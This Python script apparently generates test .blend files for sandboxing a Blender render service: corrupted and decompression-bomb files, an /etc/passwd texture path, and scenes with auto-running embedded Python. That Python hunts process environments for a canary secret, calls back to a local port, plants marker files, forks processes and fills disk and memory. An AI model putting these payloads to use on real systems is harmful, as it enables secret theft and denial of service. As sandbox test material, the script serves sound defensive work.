"""Scenes that cannot or must not be rendered as they are: `bad_scenes.py OUT_DIR TRACES_DIR PORT`.

Run with the Python of the environment `blender-5.0`. Every scene is tiny. The hostile ones carry Python that looks for the
word `tatau-secret-PORT` in the host's files and environments, calls PORT on the host, and leaves files named
`tatau-hostile-PORT` in TRACES_DIR and elsewhere; all but `hostile-mild` then fork, fill the disk and the memory without end.
"""

import os
import random
import struct
import sys

import bpy
import zstandard

OUT, TRACES, PORT = os.path.abspath(sys.argv[1]), sys.argv[2], int(sys.argv[3])
SEED = 2026
SECRET = f"tatau-secret-{PORT}"
MILD = f"""
import bpy, glob, os, socket
print("HOSTILE PYTHON RAN")
for place in ({TRACES!r}, "/tmp", "/", os.getcwd(), os.path.expanduser("~")):
    try:
        open(os.path.join(place, "tatau-hostile-{PORT}"), "w").write("here")
    except OSError:
        pass
stolen = 0
for file in [{TRACES!r} + "/secret", "/proc/self/environ", *glob.glob("/proc/[0-9]*/environ"), *glob.glob("/proc/[0-9]*/root" + {TRACES!r} + "/secret")]:
    try:
        stolen += {SECRET!r}.encode() in open(file, "rb").read(1 << 20)
    except OSError:
        pass
print("HOSTILE PYTHON STOLE", stolen)
calls = 0
for family, address in ((socket.AF_INET, ("127.0.0.1", {PORT})), (socket.AF_INET6, ("::ffff:127.0.0.1", {PORT}))):
    try:
        with socket.socket(family) as call:
            call.settimeout(2)
            call.connect(address)
            calls += 1
    except OSError:
        pass
# What it found out, in the names that the inspection tells.
bpy.data.texts.new(f"stolen {{stolen}} calls {{calls}}").use_module = True
bpy.data.scenes[0].camera = None
"""
PAYLOAD = MILD + f"""
import subprocess
subprocess.Popen(["/bin/sh", "-c", "while :; do sleep 600.{PORT} & done"])
with open("/tmp/tatau-hostile-{PORT}-disk", "wb") as file:
    while True:
        file.write(bytes(1 << 24))
        memory = globals().setdefault("memory", [])
        memory.append(bytearray(1 << 26))
"""
HANDLER = """
import bpy
def ran(*_):
    exec(bpy.data.texts["payload"].as_string())
bpy.app.handlers.frame_change_pre.append(ran)
bpy.app.handlers.load_post.append(ran)
bpy.app.handlers.render_pre.append(ran)
bpy.app.driver_namespace["ran"] = ran
ran()
"""


def fresh():
    """A scene that renders: a cube, a light, a camera, Cycles without denoising."""
    bpy.ops.wm.read_factory_settings(use_empty=False)
    scene = bpy.context.scene
    scene.render.engine = "CYCLES"
    scene.cycles.device = "CPU"
    scene.cycles.samples = 4
    scene.cycles.use_denoising = False
    scene.cycles.use_adaptive_sampling = False
    scene.render.resolution_x, scene.render.resolution_y, scene.render.resolution_percentage = 160, 96, 100
    scene.frame_start, scene.frame_end = 1, 2
    return scene


def save(name, compress=False):
    path = os.path.join(OUT, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    bpy.ops.wm.save_as_mainfile(filepath=path, compress=compress, relative_remap=False)
    return path


def textured(filepath):
    material = bpy.data.objects["Cube"].active_material
    material.use_nodes = True
    node = material.node_tree.nodes.new("ShaderNodeTexImage")
    image = bpy.data.images.new("bark", 4, 4)
    image.source, image.filepath = "FILE", filepath
    node.image = image
    material.node_tree.links.new(node.outputs[0], material.node_tree.nodes["Principled BSDF"].inputs[0])


def damaged(good):
    with open(good, "rb") as stream:
        data = bytearray(stream.read())
    with open(os.path.join(OUT, "truncated.blend"), "wb") as stream:
        stream.write(data[: len(data) * 3 // 5])
    noise = random.Random(SEED)
    middle = len(data) // 2
    data[middle : middle + 40_000] = noise.randbytes(40_000)
    with open(os.path.join(OUT, "random.blend"), "wb") as stream:
        stream.write(data)


def bomb(good):
    """A few hundred kilobytes that unpack to 8 GiB before the scene begins."""
    with open(good, "rb") as stream:
        data = stream.read()
    head, block, part = 17, 1 << 30, 1 << 26  # the file's head; sizes in bytes
    packer = zstandard.ZstdCompressor()
    zeros = packer.compress(bytes(part))
    with open(os.path.join(OUT, "bomb.blend"), "wb") as stream:
        stream.write(packer.compress(data[:head]))
        for number in range(8):
            stream.write(packer.compress(struct.pack("<4siQqq", b"DATA", 0, 4096 + number, block, 1)))
            stream.write(zeros * (block // part))
        stream.write(packer.compress(data[head:]))
    with open(os.path.join(OUT, "endless.blend"), "wb") as stream:
        stream.write(data[:head] + struct.pack("<4siQqq", b"DATA", 0, 4096, 1 << 60, 1) + data[head:])


def damaged_packed(packed):
    with open(packed, "rb") as stream:
        data = bytearray(stream.read())
    data[len(data) // 2 : len(data) // 2 + 64] = random.Random(SEED).randbytes(64)
    with open(os.path.join(OUT, "random-packed.blend"), "wb") as stream:
        stream.write(data)
    os.remove(packed)


def libraries():
    library_scene = fresh()
    library_scene.name = "library"
    bpy.data.objects["Cube"].name = "Prop"
    library = save("library/props.blend")
    fresh()
    with bpy.data.libraries.load(library, link=True, relative=True) as (_, into):
        into.objects = ["Prop"]
    for item in into.objects:
        bpy.context.scene.collection.objects.link(item)
    bpy.data.libraries[0].filepath = "//library/props.blend"
    save("no-library.blend")
    os.remove(library)


def hostile_text(name, registered, payload=PAYLOAD):
    fresh()
    bpy.data.texts.new("payload").write(payload)
    text = bpy.data.texts.new("start.py")
    text.write(HANDLER)
    text.use_module = registered
    save(name)


def drive(block, path, expression, index=-1):
    driver = block.driver_add(path, index).driver
    driver.type, driver.expression = "SCRIPTED", expression


def hostile_drivers():
    fresh()
    bpy.data.texts.new("payload").write(PAYLOAD)
    call = "exec(__import__('bpy').data.texts['payload'].as_string()) or 1.0"
    drive(bpy.data.objects["Cube"], "location", call, 0)
    drive(bpy.data.objects["Camera"].data, "lens", "ran()")
    drive(bpy.context.scene, "cycles.seed", call)
    save("hostile-drivers.blend")
    # A kind of block that few look at: Blender itself has to say that it would need Python.
    fresh()
    bpy.data.texts.new("payload").write(PAYLOAD)
    ball = bpy.data.metaballs.new("ball")
    ball.elements.new()
    bpy.context.scene.collection.objects.link(bpy.data.objects.new("ball", ball))
    drive(ball, "threshold", call)
    save("hostile-metaball.blend")


def osl():
    scene = fresh()
    scene.cycles.shading_system = True
    save("osl.blend")


def main():
    os.makedirs(OUT, exist_ok=True)
    bpy.context.preferences.filepaths.use_scripts_auto_execute = False
    bpy.context.preferences.filepaths.save_version = 0
    fresh()
    good = save("good.blend")
    damaged(good)
    bomb(good)
    fresh()
    damaged_packed(save("packed.blend", compress=True))
    fresh()
    textured("//textures/bark.png")
    save("no-texture.blend")
    fresh()
    textured("/etc/passwd")
    save("passwd-texture.blend")
    libraries()
    fresh().camera = None
    save("no-camera.blend")
    fresh().render.engine = "BLENDER_EEVEE"
    save("eevee.blend")
    fresh().cycles.use_guiding = True
    save("guiding.blend")
    fresh()
    bpy.data.objects["Cube"].modifiers.new("cloth", "CLOTH")
    save("cloth.blend")
    hostile_text("hostile-registered.blend", True)
    hostile_text("hostile-asleep.blend", False)
    hostile_text("hostile-mild.blend", True, MILD)
    hostile_drivers()
    osl()


main()
